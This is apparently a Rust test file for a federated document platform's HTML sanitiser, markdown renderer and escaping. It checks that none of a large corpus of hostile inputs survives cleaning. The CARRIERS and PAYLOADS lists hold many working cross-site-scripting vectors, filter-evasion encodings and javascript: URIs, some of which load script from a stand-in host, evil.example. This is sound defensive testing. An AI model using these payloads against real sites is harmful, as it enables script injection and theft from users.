//! Foreign HTML made harmless: a corpus of ways to smuggle script, markup or addresses into a
//! page, put into every place where foreign text is taken (security.md XS-1, XS-2, XS-3, XS-7).

use caucus::domain::document::{CitedVersion, Shelf};
use caucus::domain::text::escape_html;
use caucus::federation::inbound::clean::{clean, plain_text};
use caucus::federation::outbound::markdown;
use caucus::ids::{ClauseId, DocumentId};
use proptest::prelude::*;
use scraper::{Html, Node};
use std::sync::Arc;
use uuid::Uuid;

const TAGS: &[&str] =
    &["p", "br", "span", "a", "del", "s", "pre", "blockquote", "code", "b", "strong", "u", "i", "em", "ul", "ol", "li"];
const CLASSES: &[&str] = &["mention", "hashtag", "invisible", "ellipsis"];

/// What runs when a browser reads it, if anything does.
const PAYLOADS: &[&str] =
    &["alert(1)", "alert`1`", "&#97;lert(1)", "import('//evil.example')", "top[8680439..toString(30)](1)"];

/// Ways to get a payload run; `%` stands for it.
const CARRIERS: &[&str] = &[
    "<script>%</script>",
    "<SCRIPT SRC=//evil.example/x.js>%</SCRIPT>",
    "<scr<script>ipt>%</scr</script>ipt>",
    "<img src=x onerror=%>",
    "<img src=x onerror='%'//",
    "<svg onload=%>",
    "<svg><script>%</script></svg>",
    "<svg><animate onbegin=% attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:%\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=%></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=%&gt;\">",
    "<math href=\"javascript:%\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>%</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%>",
    "<noscript><p title=\"</noscript><img src=x onerror=%>\">",
    "<template><img src=x onerror=%></template>",
    "<iframe srcdoc=\"<script>%</script>\"></iframe>",
    "<iframe src=\"javascript:%\"></iframe>",
    "<object data=\"javascript:%\"></object>",
    "<embed src=\"javascript:%\">",
    "<base href=\"javascript:%//\"><a href=x>y</a>",
    "<form action=\"javascript:%\"><button>x</button></form>",
    "<button formaction=\"javascript:%\">x</button>",
    "<input autofocus onfocus=%>",
    "<details open ontoggle=%>x</details>",
    "<video><source onerror=%></video>",
    "<audio src=x onerror=%>",
    "<body onload=%>",
    "<marquee onstart=%>x</marquee>",
    "<style>@import 'javascript:%';</style>",
    "<link rel=stylesheet href=\"javascript:%\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:%\">",
    "<a href=\"javascript:%\">x</a>",
    "<a href=\" JaVaScRiPt:%\">x</a>",
    "<a href=\"java\tscript:%\">x</a>",
    "<a href=\"java\nscript:%\">x</a>",
    "<a href=\"java&#9;script:%\">x</a>",
    "<a href=\"&#1;javascript:%\">x</a>",
    "<a href=\"&#106;avascript:%\">x</a>",
    "<a href=\"vbscript:%\">x</a>",
    "<a href=\"data:text/html,<script>%</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">%</a>",
    "<a href=\"blob:https://x.example/1\">%</a>",
    "<a href=\"file:///etc/passwd\">%</a>",
    "<a href=\"//evil.example/%\">x</a>",
    "<a href=\"/sign-out?%\">x</a>",
    "<a href=\"https://x.example\" onclick=\"%\">x</a>",
    "<a href=https://x.example/onmouseover=%>x</a>",
    "<a href='https://x.example' style='position:fixed;inset:0' target=_blank id=form name=%>x</a>",
    "<p onclick=% style=\"background:url(javascript:%)\">x</p>",
    "<p class=\"nav button %\" id=main dir=rtl tabindex=1 accesskey=x data-x=%>x</p>",
    "<span class='mention' onmouseenter='%'>x</span>",
    "<p/onclick=%>x",
    "<p\x0conclick=%>x",
    "<a\x0chref=\"javascript:%\">x</a>",
    "<<p onclick=%>x",
    "<p \"><img src=x onerror=%>\">x</p>",
    "<!--><img src=x onerror=%>-->",
    "<!--[if IE]><script>%</script><![endif]-->",
    "<![CDATA[<script>%</script>]]>",
    "<?xml version=\"1.0\"?><script>%</script>",
    "<xss style=\"x:expression(%)\">x</xss>",
    "<p>&lt;script&gt;%&lt;/script&gt;</p>",
    "&lt;img src=x onerror=%&gt;",
    "<textarea></textarea><img src=x onerror=%>",
    "<title><img src=x onerror=%></title>",
    "<select><style></select><img src=x onerror=%></style>",
    "<plaintext><img src=x onerror=%>",
    "<xmp><img src=x onerror=%></xmp>",
    "<listing>&lt;img onerror=% src=x&gt;</listing>",
];

fn corpus() -> Vec<String> {
    CARRIERS.iter().flat_map(|carrier| PAYLOADS.iter().map(|payload| carrier.replace('%', payload))).collect()
}

/// Reads HTML as a browser does and answers what in it is not allowed.
fn forbidden(html: &str) -> Option<String> {
    let document = Html::parse_fragment(html);
    for node in document.tree.nodes() {
        let Node::Element(element) = node.value() else { continue };
        let tag = element.name();
        if !["html", "head", "body"].contains(&tag) && !TAGS.contains(&tag) {
            return Some(format!("the element {tag}"));
        }
        for (name, value) in element.attrs() {
            let is_good = match (tag, name) {
                ("a", "href") => ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                ("a", "rel") => value == "nofollow noopener noreferrer ugc",
                ("a" | "span", "class") => value.split(' ').all(|class| class.is_empty() || CLASSES.contains(&class)),
                (_, "lang") => true,
                _ => false,
            };
            if !is_good {
                return Some(format!("the attribute {name}={value:?} of {tag}"));
            }
        }
    }
    None
}

/// A document that the corpus may cite.
fn shelf() -> Shelf {
    let clause = ("4.1".to_owned(), ClauseId::from_uuid(Uuid::nil()));
    let url = "https://x.example/documents/a/versions/1".to_owned();
    Shelf::new(vec![Arc::new(CitedVersion::new(DocumentId::from_uuid(Uuid::nil()), ["A", "a"], url, [clause]))], None)
}

fn link() -> String {
    format!("<a href=\"https://x.example/documents/a/versions/1#clause-{}\">4.1</a>", Uuid::nil())
}

#[test]
fn nothing_of_the_corpus_survives_cleaning() {
    let corpus = corpus();
    assert!(corpus.len() >= 300);
    for hostile in corpus {
        let cleaned = clean(&hostile);
        assert_eq!(forbidden(&cleaned), None, "{hostile} became {cleaned}");
        assert_eq!(clean(&cleaned), cleaned, "cleaned twice is cleaned once: {hostile}");
    }
}

#[test]
fn nothing_of_the_corpus_survives_as_escaped_text_or_as_markdown() {
    for hostile in corpus() {
        let escaped = format!("<p>{}</p>", escape_html(&hostile));
        assert_eq!(forbidden(&escaped), None, "{hostile}");
        let cited = format!("<p>{}</p>", shelf().html(&format!("4.1, {hostile} 4.1")));
        assert_eq!(forbidden(&cited.replace(&link(), "")), None, "{cited}");
        assert!(cited.contains(&link()), "{cited}");
        let rendered = markdown::to_html(&hostile, &shelf());
        assert_eq!(forbidden(&rendered), None, "{hostile} became {rendered}");
    }
}

#[test]
fn ordinary_posts_keep_what_makes_them_readable() {
    let post = "<p>Hi <span class=\"h-card\"><a href=\"https://x.example/@a\" class=\"u-url mention\">@<span>a</span></a></span>, \
                <strong>yes</strong> &amp; <em>no</em><br>see <a href=\"https://x.example/?a=1&amp;b=2\">this</a></p>\
                <ul><li>one</li></ul><blockquote><p>two</p></blockquote><pre><code>three</code></pre>";
    let cleaned = clean(post);
    for kept in [
        "<strong>yes</strong>",
        "<em>no</em>",
        "<br>",
        "<li>one</li>",
        "<blockquote>",
        "<code>three</code>",
        "class=\"mention\"",
    ] {
        assert!(cleaned.contains(kept), "{kept} is not in {cleaned}");
    }
    assert!(cleaned.contains("rel=\"nofollow noopener noreferrer ugc\""));
    assert!(!cleaned.contains("h-card") && !cleaned.contains("u-url"));
}

#[test]
fn the_bare_text_of_a_reply_leaves_out_the_mentions_at_its_head() {
    for (html, text) in [
        ("<p><span class=\"h-card\"><a href=\"https://x.example\">@<span>commons</span></a></span> For</p>", "For"),
        ("<p>@commons@caucus.example @other against</p>", "against"),
        ("<p>for<br>you</p><p>all</p>", "for you all"),
        ("a &amp;lt; b &lt;c&gt;", "a &lt; b <c>"),
        ("<script>for</script>", ""),
        ("", ""),
    ] {
        assert_eq!(plain_text(html), text, "{html}");
    }
}

proptest! {
    #[test]
    fn whatever_is_sent_comes_out_harmless(parts in prop::collection::vec(prop_oneof![
        prop::sample::select(CARRIERS.to_vec()).prop_map(str::to_owned),
        "[<>/\"'= a-z!-]{0,12}",
        Just("<p>".to_owned()), Just("</svg>".to_owned()), Just("<math>".to_owned()), Just("<!--".to_owned()),
        Just("\"".to_owned()), Just("<a href=\"".to_owned()), Just("</style>".to_owned()),
    ], 0..8)) {
        let hostile = parts.concat();
        let cleaned = clean(&hostile);
        prop_assert_eq!(forbidden(&cleaned), None, "{} became {}", hostile, cleaned);
        prop_assert_eq!(forbidden(&markdown::to_html(&hostile, &shelf())), None);
    }
}
